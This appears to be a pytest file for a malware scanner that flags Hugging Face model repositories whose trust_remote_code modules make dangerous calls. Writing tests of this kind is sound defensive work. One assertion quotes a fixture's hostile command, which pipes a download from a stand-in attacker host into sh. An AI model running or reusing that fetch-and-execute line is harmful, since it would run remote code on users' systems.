"""Hugging Face repositories: auto_map code that trust_remote_code would import, dangerous calls in it
(with line numbers), cross-repository references, a benign repository, and the hub cache layout."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from scanner.pycode_check import judge_source
from tests.conftest import FIXTURES

HF = FIXTURES / "hf"
SNAPSHOT = "models--acme--tiny-remote/snapshots/4f2c1f0a9d8e7b6c5a4f3e2d1c0b9a8f7e6d5c4b"
REMOTE_FILES = ["configuration_tiny.py", "modeling_tiny.py", "helpers.py"]


def _scan(run_cli: Any, *paths: Path) -> tuple[int, dict[str, dict[str, Any]]]:
    r = run_cli("scan", *map(str, paths), "--json", "-")
    return r.code, {a["relpath"]: a for a in r.json()["artifacts"]}


def _findings(art: dict[str, Any]) -> list[tuple[str, str, str]]:
    return sorted((f["rule_id"], f["severity"], f["detail"]) for f in art["findings"])


def test_auto_map_lists_the_files_trust_remote_code_would_import(run_cli) -> None:  # type: ignore[no-untyped-def]
    code, arts = _scan(run_cli, HF / "remote-code-repo")
    assert code == 1
    config = arts["config.json"]
    (f,) = config["findings"]
    assert (f["rule_id"], f["severity"]) == ("AS-HF-001", "high")
    assert f["extra"]["files"] == REMOTE_FILES  # helpers.py is reached through a relative import
    assert f["extra"]["references"] == {
        "auto_map.AutoConfig": "configuration_tiny.TinyConfig",
        "auto_map.AutoModelForCausalLM": "modeling_tiny.TinyForCausalLM",
    }
    assert config["properties"]["architecture"] == "TinyForCausalLM"
    assert config["properties"]["task"] == "text-generation"
    assert config["properties"]["remote_code_files"] == REMOTE_FILES


def test_dangerous_calls_reported_with_line_numbers(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, arts = _scan(run_cli, HF / "remote-code-repo")
    assert _findings(arts["modeling_tiny.py"]) == [("AS-HF-003", "critical", "line 10: os.system (process)")]
    assert _findings(arts["helpers.py"]) == [
        ("AS-HF-003", "critical", "line 7: urllib.request.urlopen (network)"),
        ("AS-HF-003", "critical", "line 8: pickle.loads (deserialization)"),
    ]
    assert arts["modeling_tiny.py"]["findings"][0]["evidence"] == (
        'os.system("curl -s https://attacker.invalid/stage2 | sh")'
    )
    assert arts["configuration_tiny.py"]["findings"] == []
    assert arts["configuration_tiny.py"]["format"] == "python"


def test_cross_repository_reference(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, arts = _scan(run_cli, HF / "remote-code-repo")
    (f,) = arts["tokenizer_config.json"]["findings"]
    assert (f["rule_id"], f["severity"]) == ("AS-HF-002", "high")
    assert f["extra"] == {"repository": "other-org/tokenizers", "module_file": "tokenization_tiny.py"}


def test_benign_repository_passes(run_cli) -> None:  # type: ignore[no-untyped-def]
    code, arts = _scan(run_cli, HF / "benign-repo")
    assert code == 0
    assert all(f["severity"] in ("low", "info") for a in arts.values() for f in a["findings"])
    props = arts["config.json"]["properties"]
    assert (props["architecture"], props["task"], props["framework"], props["model_type"]) == (
        "GPT2LMHeadModel",
        "text-generation",
        "transformers",
        "gpt2",
    )
    # The README's code block is not mistaken for a Python module.
    assert not any(a.startswith("python-source") for a in arts["README.md"]["coverage"]["analyzed"])


def test_hub_cache_layout(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, arts = _scan(run_cli, HF / "hub-cache")
    config = arts[f"{SNAPSHOT}/config.json"]
    (f,) = config["findings"]
    assert f["rule_id"] == "AS-HF-001"
    assert f["extra"]["files"] == REMOTE_FILES
    assert f["extra"]["repository_dir"].endswith(SNAPSHOT)  # found from the extension-less blob
    assert _findings(arts[f"{SNAPSHOT}/modeling_tiny.py"]) == [
        ("AS-HF-003", "critical", "line 10: os.system (process)")
    ]
    blobs = [a for rel, a in arts.items() if "/blobs/" in rel and a["format"] == "python"]
    assert len(blobs) == 3  # recognised by content, without a .py name
    assert _findings(arts[f"{SNAPSHOT}/tokenizer_config.json"])[0][0] == "AS-HF-002"


def test_missing_and_malformed_references(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    config = {
        "model_type": "x",
        "auto_map": {
            "AutoModel": "modeling_x.XModel",
            "AutoConfig": 42,
            "AutoTokenizer": ["not a ref", None],
        },
        "custom_pipelines": {"text-classification": {"impl": "pipeline_x.XPipeline"}},
    }
    (tmp_path / "config.json").write_text(json.dumps(config))
    (tmp_path / "pipeline_x.py").write_text("from .modeling_x import XModel\n\nclass XPipeline:\n    pass\n")
    _, arts = _scan(run_cli, tmp_path)
    found = _findings(arts["config.json"])
    assert ("AS-HF-004", "medium", "auto_map.AutoConfig is 42") in found
    assert ("AS-HF-004", "medium", "auto_map.AutoTokenizer = 'not a ref'") in found
    assert (
        "AS-HF-005",
        "medium",
        f"modeling_x.py is imported by trust_remote_code but is not in {tmp_path}",
    ) in found
    (remote,) = [f for f in arts["config.json"]["findings"] if f["rule_id"] == "AS-HF-001"]
    assert remote["extra"]["files"] == ["pipeline_x.py", "modeling_x.py"]


def test_call_resolution_through_aliases_and_indirection() -> None:
    source = "\n".join(
        [
            "import subprocess as sp",
            "from os import system as run",
            "import importlib, torch, numpy as np",
            "sp.check_output(['id'])",
            "run('id')",
            "__import__('os').popen('id')",
            "getattr(importlib.import_module('socket'), 'create_connection')(('h', 1))",
            "torch.load('w.pt', weights_only=True)",
            "torch.load('w.pt')",
            "np.load('a.npy')",
            "np.load('a.npy', allow_pickle=True)",
            "eval('1')",
            "model.eval()",
        ]
    )
    calls = [(c.line, c.name) for c in judge_source(source).calls]
    assert calls == [
        (4, "subprocess.check_output"),
        (5, "os.system"),
        (6, "os.popen"),
        (6, "builtins.__import__"),
        (7, "socket.create_connection"),
        (7, "importlib.import_module"),
        (9, "torch.load"),
        (11, "numpy.load"),
        (12, "builtins.eval"),
    ]


def test_secret_shaped_module_name_is_redacted_everywhere(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from fixtures.fake_secrets import HUGGINGFACE

    (tmp_path / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": f"{HUGGINGFACE}.X"}}))
    r = run_cli("scan", str(tmp_path), "--json", "-")
    assert HUGGINGFACE not in r.out and HUGGINGFACE not in r.err
    (art,) = r.json()["artifacts"]
    assert {f["rule_id"] for f in art["findings"]} >= {"AS-HF-001", "AS-HF-005", "AS-SEC-001"}
    assert art["properties"]["remote_code_files"] == ["[REDACTED huggingface-token: hf_z… (37 chars)].py"]


def test_many_malformed_references_are_capped(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "config.json").write_text(json.dumps({"auto_map": {f"Auto{i}": 42 for i in range(500)}}))
    _, arts = _scan(run_cli, tmp_path)
    found = _findings(arts["config.json"])
    assert len(found) == 51 and all(r == "AS-HF-004" for r, _, _ in found)
    assert ("AS-HF-004", "medium", "450 more entries not understood (the first 50 are listed)") in found
